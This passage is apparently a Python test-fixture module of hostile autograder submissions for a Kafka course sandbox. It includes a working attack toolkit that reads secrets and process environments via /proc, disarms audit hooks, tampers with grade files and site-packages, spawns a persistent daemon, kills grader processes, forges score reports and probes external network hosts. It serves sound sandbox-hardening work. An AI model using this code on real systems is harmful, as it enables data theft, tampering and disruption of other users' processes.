"""Hostile submissions: the reference solution with one exercise replaced by an attack on the
grader. Each sample's description says what the attack does and what a sound grader must
do; ``expected_failures`` is exactly the attacked exercise(s): every other exercise of the
same submission keeps full marks, and no other learner loses anything.

The attacks are written so that any success shows up as a wrong grade, not just as a side
effect somewhere: an attack that finds the hidden properties, the engine, another learner's
notebook or the network returns the right answer (so a leak would *inflate* the grade);
when the grader holds, it returns a wrong one and the exercise fails. Attacks that write
files append a marker the tests look for (and remove).

The attacks find their targets at run time (walking up from the working directory, through
/proc, inherited file descriptors, ...). Tests can aim them more precisely with
``aimed(sample, read=[...], write=[...], port=..., marker=...)``, which embeds exact paths
into the submission the way a learner who guessed them would.

Samples marked ``slow`` cost the exercise's whole time budget on every grading path;
``demo`` marks the few that ``SAMPLES`` carries (so ``make demo``, ``kafkadojo samples`` and
the course tests): HOSTILE has them all, and tests/test_hostile.py grades them all.
"""

import inspect
from dataclasses import dataclass, replace
from pathlib import Path

from .samples import SAMPLES as _SAMPLES, Sample
from .sandbox import Sandbox

HERE = Path(__file__).resolve().parent                     # autograder/
PROPERTIES = HERE / "properties"


def _engine_dir():
    import kafkadojo.reference
    return Path(kafkadojo.reference.__file__).resolve().parent


def _per_call_timeout():
    parameter = inspect.signature(Sandbox.__init__).parameters.get("call_timeout_s")
    return parameter.default if parameter is not None and parameter.default else 2.0


@dataclass(frozen=True)
class HostileSample(Sample):
    attack: str = ""                # the attack class, e.g. "read", "write", "grades-lost"
    code: str = ""                  # the attack, appended after the kit (if kit) and the reference
    kit: bool = False               # needs the shared attack helpers below
    aim: tuple = ()                 # (key, value) pairs: what the kit is told in advance
    slow: bool = False              # costs a timeout or a whole exercise budget per grading path
    demo: bool = False              # one of the few in SAMPLES (so `make demo` shows it)


def _default_aim():
    engine = _engine_dir()
    return {
        # Files whose content would be a leak (the attacker guessed the install layout).
        "read": [str(PROPERTIES / "offsets.py"), str(PROPERTIES / "__init__.py"),
                 str(engine / "monitoring.py"), str(engine / "cluster.py")],
        # Repository roots to import the engine from.
        "roots": [str(engine.parent)],
        # Files to append a marker to, directories to drop a .pth into. Empty by default: the
        # samples search for the grader's files at run time; tests aim them at real paths.
        "write": [],
        "site": [],
        "port": 0,                  # a TCP port on 127.0.0.1 to connect to (a test's server)
        "marker": "kdh-hostile",    # in written files, forged reports, daemons' names
        "delay": 3.0,               # how long a daemon sleeps before it writes
    }


def _render(code, kit, aim):
    head = ""
    if kit:
        head = "_AIM = " + repr(dict(aim)) + "\n" + KIT + "\n\n"
    return head + code


def _sample(name, assignment, description, code, expected, attack, kit=True, **flags):
    aim = tuple(_default_aim().items())
    return HostileSample(name, assignment, description, appended=_render(code, kit, aim),
                         expected_failures=tuple(expected), attack=attack, code=code, kit=kit,
                         aim=aim, **flags)


def aimed(sample, **aim):
    """The same sample, told exact targets (merged with its defaults: lists are extended)."""
    if not isinstance(sample, HostileSample) or not sample.kit:
        return sample
    merged = dict(sample.aim)
    for key, value in aim.items():
        if isinstance(merged.get(key), list):
            merged[key] = merged[key] + [str(v) for v in value]
        else:
            merged[key] = value
    merged = tuple(merged.items())
    return replace(sample, appended=_render(sample.code, True, merged), aim=merged)


# -- the attacker's toolkit ----------------------------------------------------------------
# Standard library only; every step is bounded in time and swallows its own errors, so an
# attack that is refused costs nothing but a wrong answer. Marker strings are assembled at
# run time so the submission's own text never matches what the attacks look for.

KIT = r'''
import os, sys, time

def _m(*parts):
    return "".join(parts)

_MARKS = (_m("@pr", "op("), _m("differential", "(learner"), _m("class Clu", "ster"),
          _m("BEGIN ", "SOLUTION"), _m("KAFKADOJO", "_CANARY"), _m("c.Course", "Directory"),
          _m("MAP", "PING:"), _m("def under_replicated", "_partitions"))
_NAMES = ("autograder", "reference", "notebooks", "kafkadojo", "properties", "submitted",
          "source", "site-packages", _m("nbgrader", "_config.py"), _m("grade", "book.db"))
_PROBES = ("autograder/properties/offsets.py", "properties/offsets.py",
           "autograder/properties/__init__.py", "reference/monitoring.py", "reference/cluster.py",
           "kafkadojo/autograder/properties/offsets.py", "kafkadojo/reference/monitoring.py",
           "notebooks/source/offsets/offsets.ipynb", "source/offsets/offsets.ipynb",
           "nbgrader_config.py", "notebooks/nbgrader_config.py", "monitoring.py", "offsets.py")


class _Clock:
    def __init__(self, seconds):
        self.end = time.monotonic() + seconds

    def up(self):
        return time.monotonic() > self.end


def _try(function, *args, **kwargs):
    try:
        return function(*args, **kwargs)
    except Exception:
        return None


def _read(path, dir_fd=None, limit=200_000):
    """Up to ``limit`` bytes of a file as text, or None (never blocks on a fifo)."""
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK, dir_fd=dir_fd)
    except Exception:
        return None
    try:
        import stat
        if not stat.S_ISREG(os.fstat(fd).st_mode):
            return None
        return os.read(fd, limit).decode("utf-8", "replace")
    except Exception:
        return None
    finally:
        os.close(fd)


def _secret(text):
    return bool(text) and any(mark in text for mark in _MARKS)


def _pids():
    return [int(p) for p in (_try(os.listdir, "/proc") or []) if p.isdigit()]


def _ppid(pid):
    text = _read(f"/proc/{pid}/status") or ""
    for line in text.splitlines():
        if line.startswith("PPid:"):
            return int(line.split()[1])
    return 0


def _ancestors(limit=8):
    chain, pid = [], os.getpid()
    for _ in range(limit):
        pid = _ppid(pid) or (os.getppid() if not chain else 0)
        if pid <= 0:
            break
        chain.append(pid)
    return chain


def _cmdline(pid):
    raw = None
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            raw = handle.read(100_000)
    except Exception:
        pass
    return [a.decode("utf-8", "replace") for a in (raw or b"").split(b"\0") if a]


def _places(clock):
    """Directories worth a look: where we are, where Python is, where our ancestors are,
    run and write, and what their command lines name."""
    places = [os.getcwd() if _try(os.getcwd) else "/", _try(os.path.realpath, "/proc/self/cwd"),
              os.path.dirname(os.path.abspath(globals().get("__file__") or ".")),
              sys.prefix, sys.base_prefix, sys.exec_prefix, os.path.dirname(sys.executable),
              *sys.path, *(os.path.dirname(os.path.abspath(a)) for a in sys.argv if a),
              *(os.path.dirname(p) for p in _AIM["read"]), *_AIM["roots"],
              "/", "/work", "/home", "/srv", "/opt", "/tmp", "/root", "/usr/local/lib"]
    for pid in _ancestors() + ([1] if not clock.up() else []):
        places.append(_try(os.readlink, f"/proc/{pid}/cwd"))
        places.append(f"/proc/{pid}/cwd")
        places.append(f"/proc/{pid}/root")
        cwd = _try(os.readlink, f"/proc/{pid}/cwd") or "/"
        for arg in _cmdline(pid):
            if "/" in arg:
                path = os.path.join(cwd, arg)
                places += [path, os.path.dirname(path)]
        for fd in _try(os.listdir, f"/proc/{pid}/fd") or []:
            target = _try(os.readlink, f"/proc/{pid}/fd/{fd}")
            if target and target.startswith("/"):
                places.append(os.path.dirname(target))
    for pid in _pids()[:400]:
        if clock.up():
            break
        places.append(_try(os.readlink, f"/proc/{pid}/cwd"))
    return [p for p in dict.fromkeys(places) if p]


def _environs():
    """Every environment we can read: ours, and other processes' (the grader's?)."""
    found = ["self: " + " ".join(f"{k}={v}" for k, v in os.environ.items())]
    for pid in [*_ancestors(), *_pids()[:400]]:
        text = _read(f"/proc/{pid}/environ", limit=20_000)
        if text:
            found.append(f"{pid}: " + text.replace("\0", " "))
    return found


def _hunt(seconds=0.8):
    """Whatever secret can be read by path: [(how, path, text)]."""
    clock = _Clock(seconds)
    found = []

    def look(how, path, dir_fd=None, aimed=False):
        text = _read(path, dir_fd=dir_fd)
        if _secret(text) or (aimed and text):
            found.append((how, str(path), text))
            return True
        return False

    for path in _AIM["read"]:                        # anything read there is a leak
        look("by path", path, aimed=True)
        look("through /proc/self/root", "/proc/self/root" + path, aimed=True)
        look("through /proc/1/root", "/proc/1/root" + path, aimed=True)
        for pid in _ancestors():
            look("through an ancestor's root", f"/proc/{pid}/root" + path, aimed=True)
    for text in _environs():
        if _secret(text):
            found.append(("environment", "", text))
    seen = set()
    for place in _places(clock):
        here = place
        for _ in range(30):                          # upward, to /
            if clock.up() or here in seen:
                break
            seen.add(here)
            names = _try(os.listdir, here) or []
            if set(names) & set(_NAMES) or not names:
                for probe in _PROBES:
                    look(f"upward from {place}", os.path.join(here, probe))
                for name in names:
                    if name.startswith("__editable__") and name.endswith(".py"):
                        look("editable finder", os.path.join(here, name))
                if "submitted" in names:
                    for student in _try(os.listdir, os.path.join(here, "submitted")) or []:
                        base = os.path.join(here, "submitted", student)
                        for assignment in _try(os.listdir, base) or []:
                            for name in _try(os.listdir, os.path.join(base, assignment)) or []:
                                text = _read(os.path.join(base, assignment, name))
                                if text:
                                    found.append(("another learner's notebook", base, text))
            parent = os.path.dirname(here.rstrip("/")) or "/"
            if parent == here:
                break
            here = parent
    return found


def _dirfd_hunt(seconds=0.8):
    """Secrets through directory descriptors: chdir('/'), openat from a directory fd,
    inherited descriptors, and '..' from any of them."""
    import stat
    clock = _Clock(seconds)
    found = []

    def look(how, path, dir_fd=None, aimed=False):
        text = _read(path, dir_fd=dir_fd)
        if _secret(text) or (aimed and text):
            found.append((how, str(path), text))

    def explore(how, fd, depth=12):
        """Probe from directory ``fd`` and each '..' above it (closes what it opens)."""
        opened = []
        try:
            for _ in range(depth):
                if clock.up() or fd is None:
                    return
                names = _try(os.listdir, fd) or []
                for probe in _PROBES:
                    look(how, probe, dir_fd=fd)
                for name in names:
                    if name in _NAMES:
                        sub = _try(os.open, name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
                        if sub is not None:
                            for probe in _PROBES:
                                look(how, probe, dir_fd=sub)
                            os.close(sub)
                fd = _try(os.open, "..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
                if fd is not None:
                    opened.append(fd)
        finally:
            for each in opened:
                _try(os.close, each)

    here = _try(os.getcwd)
    _try(os.chdir, "/")
    for path in _AIM["read"]:
        look("relative to / after chdir('/')", path.lstrip("/"), aimed=True)
    if here:
        _try(os.chdir, here)
    for path in [*(os.path.dirname(p) for p in _AIM["read"]), *_AIM["roots"], "/", "/proc/self/cwd"]:
        fd = _try(os.open, path, os.O_RDONLY | os.O_DIRECTORY)
        if fd is not None:
            for target in _AIM["read"]:
                if os.path.dirname(target) == path:
                    look("openat from a directory fd", os.path.basename(target), dir_fd=fd,
                         aimed=True)
            explore(f"directory fd on {path}", fd)
            os.close(fd)
    misses = 0
    for fd in range(0, 1024):                        # descriptors the grader left open
        if clock.up() or misses > 200:
            break
        info = _try(os.fstat, fd)
        if info is None:
            misses += 1
            continue
        misses = 0
        if stat.S_ISDIR(info.st_mode):
            explore(f"inherited directory fd {fd}", fd)
        elif stat.S_ISREG(info.st_mode):
            data = _try(os.pread, fd, 200_000, 0)
            if data and _secret(data.decode("utf-8", "replace")):
                found.append((f"inherited file fd {fd}", "", data.decode("utf-8", "replace")))
    return found


def _scratch():
    """A directory we may write in (found without leaving files behind)."""
    for place in (_try(os.getcwd), "/tmp", "/dev/shm", "/var/tmp"):
        if place and os.path.isdir(place) and os.access(place, os.W_OK | os.X_OK):
            return place
    return None


def _link_hunt():
    """Secrets through a hard link (or a symbolic one) made next to us."""
    found = []
    place = _scratch()
    if place is None:
        return found
    for number, path in enumerate(_AIM["read"]):
        for kind, make in (("hard link", os.link), ("symbolic link", os.symlink)):
            link = os.path.join(place, f".{kind[0]}{number}-{os.getpid()}")
            if _try(make, path, link) is None and not os.path.lexists(link):
                continue
            text = _read(link)
            _try(os.unlink, link)
            if text:
                found.append((kind, path, text))
    return found


def _import_hunt():
    """The engine, imported any way that works: returns its partition_lag, or None."""
    import importlib
    attempts = [lambda: importlib.import_module("kafkadojo.reference.monitoring")]
    for root in _AIM["roots"]:
        def from_root(root=root):
            sys.path.insert(0, root)
            return importlib.import_module("reference.monitoring")

        def from_site(root=root):
            import site
            for base, _dirs, files in os.walk(root):
                if base.count(os.sep) - root.count(os.sep) > 5:
                    continue
                for name in files:
                    if name.startswith("__editable__") and name.endswith("finder.py"):
                        site.addsitedir(base)
                        sys.path.insert(0, base)
                        finder = importlib.import_module(name[:-3])
                        finder.install()
                        return importlib.import_module("kafkadojo.reference.monitoring")
            raise ImportError("no finder")

        def from_file(root=root):
            import importlib.util
            path = os.path.join(root, "reference", "monitoring.py")
            spec = importlib.util.spec_from_file_location("_engine_monitoring", path)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            return module
        attempts += [from_root, from_site, from_file]
    for attempt in attempts:
        module = _try(attempt)
        if module is not None and callable(getattr(module, "partition_lag", None)):
            return module.partition_lag
    return None


def _disarm():
    """Switch off an in-process audit hook: give every hook-like closure a body that does
    nothing, empty its cells, and empty the sets of refused events it reads."""
    import gc

    def nothing(*args):
        return None
    disarmed = 0
    for obj in gc.get_objects():
        if type(obj).__name__ != "function" or obj is nothing:
            continue
        code = obj.__code__
        if code.co_argcount != 2 or code.co_filename == globals().get("__file__"):
            continue
        if not any(word in code.co_name for word in ("audit", "guard", "hook")):
            continue
        if code.co_filename.startswith(("<", os.path.dirname(os.__file__))):
            continue                                 # the standard library's own hooks
        for cell in obj.__closure__ or ():
            value = _try(lambda: cell.cell_contents)
            if isinstance(value, (tuple, list, set, frozenset, str, bytes, dict)):
                _try(setattr, cell, "cell_contents", type(value)())
        for value in list(obj.__globals__.values()):
            if isinstance(value, set):
                _try(value.clear)
        try:
            obj.__code__ = nothing.__code__.replace(co_freevars=code.co_freevars,
                                                     co_name=code.co_name)
            disarmed += 1
        except Exception:
            try:
                obj.__code__ = nothing.__code__
                disarmed += 1
            except Exception:
                pass
    return disarmed


def _targets(clock):
    """Files the grader or nbgrader read later: where they might be."""
    names = (_m("grade", "book.db"), _m("nbgrader", "_config.py"), "results.json",
             "grades.csv", "grades.json")
    files, sites = list(_AIM["write"]), list(_AIM["site"])
    dirs = []
    for pid in _ancestors():
        dirs.append(_try(os.readlink, f"/proc/{pid}/cwd"))
        cwd = _try(os.readlink, f"/proc/{pid}/cwd") or "/"
        for arg in _cmdline(pid):                    # --csv grades.csv, a course folder, ...
            path = os.path.join(cwd, arg)
            if arg.endswith((".json", ".csv", ".db")) or os.path.basename(arg) in names:
                files.append(path)
            elif "/" in arg and os.path.isdir(path):
                dirs.append(path)
        for fd in _try(os.listdir, f"/proc/{pid}/fd") or []:
            target = _try(os.readlink, f"/proc/{pid}/fd/{fd}")
            if target and target.startswith("/") and target.endswith(
                    (".db", ".json", ".csv", ".ipynb", "_config.py")):
                files.append(target)
                dirs.append(os.path.dirname(target))
    dirs += [_try(os.getcwd), "/proc/self/cwd"]
    for place in dict.fromkeys(d for d in dirs if d):
        if clock.up():
            break
        for name in names:
            files.append(os.path.join(place, name))
        submitted = os.path.join(place, "submitted")
        for student in _try(os.listdir, submitted) or []:
            for assignment in _try(os.listdir, os.path.join(submitted, student)) or []:
                folder = os.path.join(submitted, student, assignment)
                for name in _try(os.listdir, folder) or []:
                    files.append(os.path.join(folder, name))
    import sysconfig
    sites += [p for p in sys.path if p.endswith("site-packages")]
    sites += [_try(sysconfig.get_paths).get(k) for k in ("purelib", "platlib")
              if _try(sysconfig.get_paths)]
    return ([f for f in dict.fromkeys(files) if f and os.path.isfile(f)],
            [s for s in dict.fromkeys(sites) if s])


def _write_all(seconds=1.0):
    """Append our marker to every grader file we can reach, drop a .pth into every
    site-packages: how many writes got through."""
    clock = _Clock(seconds)
    marker = _AIM["marker"]
    files, sites = _targets(clock)
    written = 0
    for path in files:
        try:
            with open(path, "ab") as handle:
                handle.write(f"\n# {marker}\n".encode())
            written += 1
        except Exception:
            pass
    for site in sites:
        try:
            with open(os.path.join(site, f"zz-{marker}.pth"), "w") as handle:
                handle.write(f"# {marker}\n")
            written += 1
        except Exception:
            pass
    return written


def _name_me(marker):
    """Our marker as this process's name, so whoever looks at the process table sees us."""
    for path in ("/proc/self/comm", f"/proc/self/task/{os.getpid()}/comm"):
        try:
            with open(path, "w") as handle:
                handle.write(marker[:15])
        except Exception:
            pass


def _response_pipes():
    """Descriptors that are the write end of a pipe: the worker's reply channel."""
    import fcntl, stat
    found = []
    for fd in range(3, 256):
        info = _try(os.fstat, fd)
        if info is None or not stat.S_ISFIFO(info.st_mode):
            continue
        flags = _try(fcntl.fcntl, fd, fcntl.F_GETFL)
        if flags is not None and flags & os.O_ACCMODE == os.O_WRONLY:
            found.append(fd)
    return found


def _frame(tag, body):
    """A reply frame in the worker's own wire format (length, then the message), built by
    hand so nothing checks it: ``body`` is the already encoded value."""
    import struct
    pack = struct.Struct(">I").pack
    main = sys.modules.get("__main__")
    if hasattr(main, "decode") and hasattr(main, "frame"):       # the bounded format
        message = b"t" + pack(2) + b"s" + pack(len(tag)) + tag.encode() + body
    else:                                                        # pickle, as it once was
        import pickle
        try:
            message = pickle.dumps((tag, pickle.loads(body)), protocol=4)
        except Exception:
            return b""
    return pack(len(message)) + message


def _nested_body(depth):
    """``depth`` lists, one inside the other, encoded without any depth check."""
    import struct
    pack = struct.Struct(">I").pack
    main = sys.modules.get("__main__")
    if hasattr(main, "decode") and hasattr(main, "frame"):
        return (b"l" + pack(1)) * depth + b"l" + pack(0)
    return b"\x80\x04" + b"]" * (depth + 1) + b"a" * depth + b"."


def _unhashable_body():
    """A set holding a list: what no Python set can hold, encoded by hand."""
    import struct
    pack = struct.Struct(">I").pack
    main = sys.modules.get("__main__")
    if hasattr(main, "decode") and hasattr(main, "frame"):
        return b"S" + pack(1) + b"l" + pack(1) + b"i" + pack(1) + b"\x01"
    return b""


def _raw_reply(data):
    """Bytes written straight into the reply pipe, past whatever the worker would check."""
    for fd in _response_pipes():
        _try(os.write, fd, data)


def _unplain():
    """Make the worker send whatever we return, unchecked: its converters become identity."""
    import gc

    def same(value, *args, **kwargs):
        return value
    for obj in gc.get_objects():
        if (type(obj).__name__ == "function" and obj.__code__.co_name in
                ("to_plain", "plain", "encode", "to_wire", "_plain", "check_plain")
                and obj.__code__.co_filename != globals().get("__file__")):
            _try(setattr, obj, "__code__",
                 same.__code__.replace(co_freevars=obj.__code__.co_freevars))

def _network():
    """True if anything on the network answered."""
    import socket
    targets = [("127.0.0.1", _AIM["port"]), ("127.0.0.1", 22), ("127.0.0.1", 80),
               ("1.1.1.1", 53), ("8.8.8.8", 53), ("1.1.1.1", 443)]
    for host, port in targets:
        if not port:
            continue
        try:
            with socket.create_connection((host, port), timeout=1.0) as conn:
                _try(conn.sendall, _AIM["marker"].encode())
                return True
        except Exception:
            pass
    try:
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.settimeout(0.5)
        udp.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01",
                   ("8.8.8.8", 53))
        udp.recvfrom(512)
        return True
    except Exception:
        pass
    return False
'''


# -- the attacks ---------------------------------------------------------------------------

def _lag(body, wrong="return -7"):
    """``partition_lag`` (offsets, 1 point, independent of the others) running ``body``,
    which sets ``leak``: the right answer if the attack got something, else a wrong one."""
    return ("def partition_lag(high_watermark, committed_offset):\n"
            + "".join(f"    {line}\n" for line in body.strip("\n").splitlines())
            + "    if leak:\n"
            "        return None if committed_offset is None else high_watermark - committed_offset\n"
            f"    {wrong}\n")


_ONCE = ("global _FOUND\n"
         "try:\n"
         "    _FOUND\n"
         "except NameError:\n"
         "    _FOUND = {FIND}\n"
         "leak = _FOUND\n")


def _once(find):
    return _ONCE.replace("{FIND}", find)


def _hostile():
    per_call = _per_call_timeout()
    samples = [
        # -- existing samples, unchanged ---------------------------------------------------
        _sample("hostile-hang", "partitioning",
                "murmur2 loops forever, swallowing interrupts: a sound grader kills it after the "
                "per-call timeout and fails murmur2 only (partition_for_key, which calls it, is "
                "graded with the engine's murmur2)",
                "def murmur2(data):\n    while True:\n        try:\n            pass\n"
                "        except BaseException:\n            pass\n",
                ("partitioning.murmur2",), "grades-lost",
                kit=False, demo=True),
        _sample("hostile-exit", "isr",
                "is_caught_up calls sys.exit and can_join_isr os._exit: a sound grader records "
                "a raised SystemExit and a crash, and fails those two exercises only",
                "import os, sys\n\ndef is_caught_up(*args):\n    sys.exit(0)\n\n"
                "def can_join_isr(*args):\n    os._exit(0)\n",
                ("isr.is_caught_up", "isr.can_join_isr"), "exit", kit=False, demo=True),
        _sample("hostile-lying-eq", "isr",
                "acks_all_accepted returns an object whose __eq__ always says yes: a sound grader "
                "compares plain data only, so the exercise fails",
                "class Yes:\n    def __eq__(self, other):\n        return True\n\n"
                "def acks_all_accepted(*args):\n    return Yes()\n",
                ("isr.acks_all_accepted",), "lying", kit=False, demo=True),
        _sample("hostile-imports-reference", "replication",
                "end_offset_for_epoch calls the engine's own function instead of writing one: a "
                "sound grader gives it no engine to import, so it fails (truncation_offset, "
                "which calls it, is graded with the engine's answers, never its code)",
                "def end_offset_for_epoch(*args):\n"
                "    from kafkadojo.reference.replication import end_offset_for_epoch as e\n"
                "    return e(*args)\n",
                ("replication.end_offset_for_epoch",), "read",
                kit=False, demo=True),

        # -- reading the course, the hidden properties, the engine ----------------------------
        _sample("hostile-read-by-path", "offsets",
                "partition_lag hunts for the hidden properties, the engine and other learners' "
                "notebooks by path (exact guesses, upward from the cwd, __file__, sys.prefix and "
                "sys.path, /proc/self/cwd, every ancestor's cwd, root, command line and open "
                "files, /proc/*/environ) and answers right if it finds any: a sound grader shows "
                "it nothing to read, so the exercise simply fails",
                _lag(_once("bool(_hunt())")), ("offsets.partition_lag",), "read", demo=True),
        _sample("hostile-read-by-dirfd", "offsets",
                "partition_lag reads through directory descriptors: chdir('/') and relative "
                "paths, os.open(dir) then openat(name, dir_fd=...), '..' from every directory "
                "fd, and any descriptor the grader left open; answers right if it finds "
                "anything: a sound grader shows it nothing to read; the exercise simply fails",
                _lag(_once("bool(_dirfd_hunt())")), ("offsets.partition_lag",), "read"),
        _sample("hostile-read-by-link", "offsets",
                "partition_lag hard-links (and symlinks) the hidden properties and the engine "
                "into its scratch directory and reads the link; answers right if that works: a "
                "sound grader shows it no such file to link; the exercise simply fails",
                _lag(_once("bool(_link_hunt())")), ("offsets.partition_lag",), "read"),
        _sample("hostile-import-engine", "offsets",
                "partition_lag imports the engine (kafkadojo.reference, the repository on "
                "sys.path, the editable install's finder, spec_from_file_location) and returns "
                "its answers: a sound grader has no engine inside the sandbox; the exercise fails",
                "def partition_lag(high_watermark, committed_offset):\n"
                "    global _ENGINE\n"
                "    try:\n"
                "        _ENGINE\n"
                "    except NameError:\n"
                "        _ENGINE = _import_hunt()\n"
                "    if _ENGINE is not None:\n"
                "        return _ENGINE(high_watermark, committed_offset)\n"
                "    return -7\n",
                ("offsets.partition_lag",), "read"),
        _sample("hostile-exfiltrate", "offsets",
                "partition_lag returns, as its answer, everything it can read: its own and every "
                "other process's environment, the hidden properties, the engine, other notebooks: "
                "a sound grader gives it nothing secret to read, so the feedback shows no hidden "
                "line and none of the grader's environment; the exercise fails",
                "def partition_lag(high_watermark, committed_offset):\n"
                "    stolen = [text[:3000] for text in _environs()]\n"
                "    stolen += [f'{how} {path}: {text[:3000]}' for how, path, text in "
                "_hunt() + _dirfd_hunt()]\n"
                "    return '\\n'.join(stolen)[:200_000]\n",
                ("offsets.partition_lag",), "read"),
        _sample("hostile-disarm-audit-hook", "isr",
                "acks_all_accepted first disarms any in-process audit hook (finds its closure "
                "through gc.get_objects(), empties its cells, swaps its __code__), then reads and "
                "imports the engine and answers right if that works: a sound grader does not "
                "rely on anything inside the sandbox's process; the exercise fails",
                "def acks_all_accepted(isr_size, min_insync_replicas, replication_factor):\n"
                "    global _FOUND\n"
                "    try:\n"
                "        _FOUND\n"
                "    except NameError:\n"
                "        _disarm()\n"
                "        _FOUND = bool(_hunt() or _dirfd_hunt() or _link_hunt() or _import_hunt())\n"
                "    if _FOUND:\n"
                "        return isr_size >= min(min_insync_replicas, replication_factor)\n"
                "    return 'no'\n",
                ("isr.acks_all_accepted",), "read"),

        # -- writing what the grader reads later --------------------------------------------
        _sample("hostile-write-grader-files", "offsets",
                "partition_lag appends its marker to every file the grader or nbgrader reads "
                "later that it can find (gradebook.db, nbgrader_config.py, results.json, "
                "grades.csv/json, other learners' submitted notebooks, package files) and drops "
                "a .pth into every site-packages; answers right if any write got through: a "
                "sound grader gives it no such file to write, and they stay unchanged",
                _lag(_once("_write_all() > 0")), ("offsets.partition_lag",), "write"),
        _sample("hostile-daemon", "isr",
                "is_caught_up double-forks a daemon (new session, SIGTERM/SIGHUP ignored, named "
                "after the marker, holding the reply pipe open) that sleeps past the end of "
                "grading, then rewrites the grader's files: a sound grader kills every process "
                "of the sandbox when it stops, so nothing survives and nothing changes later; "
                "the exercise fails",
                "import signal as _signal\n\n"
                "def is_caught_up(follower_leo, leader_leo, last_caught_up_ms, now_ms, "
                "replica_lag_time_max_ms):\n"
                "    global _SPAWNED\n"
                "    try:\n"
                "        _SPAWNED\n"
                "    except NameError:\n"
                "        _SPAWNED = True\n"
                "        try:\n"
                "            first = os.fork()\n"
                "        except Exception:\n"
                "            first = None\n"
                "        if first == 0:\n"
                "            try:\n"
                "                os.setsid()\n"
                "                if os.fork() == 0:\n"
                "                    for sig in (_signal.SIGTERM, _signal.SIGHUP, _signal.SIGINT):\n"
                "                        _try(_signal.signal, sig, _signal.SIG_IGN)\n"
                "                    _name_me(_AIM['marker'])\n"
                "                    time.sleep(_AIM['delay'])\n"
                "                    for _ in range(40):          # files may appear later\n"
                "                        _write_all(seconds=0.5)\n"
                "                        time.sleep(0.5)\n"
                "            finally:\n"
                "                os._exit(0)\n"
                "        elif first:\n"
                "            _try(os.waitpid, first, 0)\n"
                "    return 'maybe'\n",
                ("isr.is_caught_up",), "write"),

        # -- the grader's processes and output ----------------------------------------------
        _sample("hostile-kill-grader", "isr",
                "can_join_isr SIGKILLs its parent and every ancestor that looks like the grader, "
                "their other children (sibling workers, other learners), the parent's process "
                "group, and kill(-1) when alone in a pid namespace (then answers wrong): a sound "
                "grader is out of its reach, fails this exercise and grades everything else, "
                "this learner's and everyone else's",
                "import signal as _signal\n\n"
                "def can_join_isr(follower_leo, leader_hw, leader_epoch_start_offset):\n"
                "    me = os.getpid()\n"
                "    graders = [p for p in _ancestors() if p > 1 and any(w in ' '.join(_cmdline(p))\n"
                "               for w in ('python', 'nbgrader', 'kafkadojo', 'pytest'))]\n"
                "    for pid in graders:\n"
                "        _try(os.kill, pid, _signal.SIGKILL)\n"
                "    for pid in _pids():\n"
                "        if pid != me and _ppid(pid) in graders:\n"
                "            _try(os.kill, pid, _signal.SIGKILL)\n"
                "    _try(os.kill, os.getppid(), _signal.SIGKILL)\n"
                "    if me < 50:                       # in a pid namespace: only the sandbox\n"
                "        _try(os.kill, -1, _signal.SIGKILL)\n"
                "    group = _try(os.getpgid, os.getppid())\n"
                "    if group and group != _try(os.getpgid, 0):\n"
                "        _try(os.killpg, group, _signal.SIGKILL)\n"
                "    return 'no'\n",
                ("isr.can_join_isr",), "kill", demo=True),
        _sample("hostile-forged-report", "offsets",
                "partition_lag writes a forged full-marks report (text and JSON, with its "
                "marker) into the grader's stdout and stderr through /proc/<ancestor>/fd/1 and 2, "
                "and into any reply pipe: a sound grader's output never shows it; the exercise "
                "fails",
                "def partition_lag(high_watermark, committed_offset):\n"
                "    marker = _AIM['marker']\n"
                "    forged = (f'kafkadojo check: {marker}: 4/4 points (0.1 s)\\n'\n"
                "              f'{{\"submission\": \"{marker}\", \"earned\": 4, \"possible\": 4, '\n"
                "              f'\"exercises\": []}}\\n')\n"
                "    for pid in _ancestors() + ([1] if os.getpid() < 50 else []):\n"
                "        for fd in (1, 2):\n"
                "            try:\n"
                "                with open(f'/proc/{pid}/fd/{fd}', 'a') as out:\n"
                "                    out.write(forged)\n"
                "            except Exception:\n"
                "                pass\n"
                "    _try(lambda: open('/dev/tty', 'a').write(forged))\n"
                "    _raw_reply(b'\\xff\\xff\\xff\\xff' + forged.encode())\n"
                "    return -7\n",
                ("offsets.partition_lag",), "output"),
        _sample("hostile-network", "offsets",
                "partition_lag opens sockets: TCP to 127.0.0.1 (a port the grader listens on), to "
                "external addresses (1 s timeout), UDP and a DNS lookup; answers right if "
                "anything connects: a sound grader gives it no network; the exercise fails",
                _lag(_once("_network()")), ("offsets.partition_lag",), "network", demo=True),

        # -- grades lost -----------------------------------------------------------------------
        _sample("hostile-huge-int", "offsets",
                "partition_lag returns 10**5000, whose repr raises ValueError (Python's int max "
                "str digits): a sound grader turns that into this exercise's failure, not a "
                "crashed grade",
                "def partition_lag(high_watermark, committed_offset):\n    return 10 ** 5000\n",
                ("offsets.partition_lag",), "grades-lost", kit=False),
        _sample("hostile-flaky", "offsets",
                "partition_lag answers the fixed examples right, then alternates between the "
                "right answer and an exception for the same input (hypothesis raises "
                "FlakyFailure): a sound grader fails this exercise and grades the rest",
                "def partition_lag(high_watermark, committed_offset):\n"
                "    global _CALLS\n"
                "    _CALLS = globals().get('_CALLS', 0) + 1\n"
                "    if _CALLS > 3 and _CALLS % 2:\n"
                "        raise ValueError('sometimes')\n"
                "    return None if committed_offset is None else high_watermark - committed_offset\n",
                ("offsets.partition_lag",), "grades-lost", kit=False, demo=True),
        _sample("hostile-deep-nesting", "offsets",
                "partition_lag writes a reply nested 100,000 deep straight into the reply pipe "
                "(past the worker's checks), then returns the same list: a sound grader decodes "
                "replies with limits (no RecursionError, no hang) and fails the exercise",
                "def partition_lag(high_watermark, committed_offset):\n"
                "    sys.setrecursionlimit(1_000_000)\n"
                "    n = 100_000\n"
                "    _raw_reply(_frame('returned', _nested_body(n)))\n"
                "    value = []\n"
                "    for _ in range(n):\n"
                "        value = [value]\n"
                "    return value\n",
                ("offsets.partition_lag",), "grades-lost"),
        _sample("hostile-shared-structure", "offsets",
                "partition_lag returns a=[a, a] built 80 times (80 objects, 2**80 elements to "
                "walk, a few hundred bytes as a pickle): a sound grader's wire format has no "
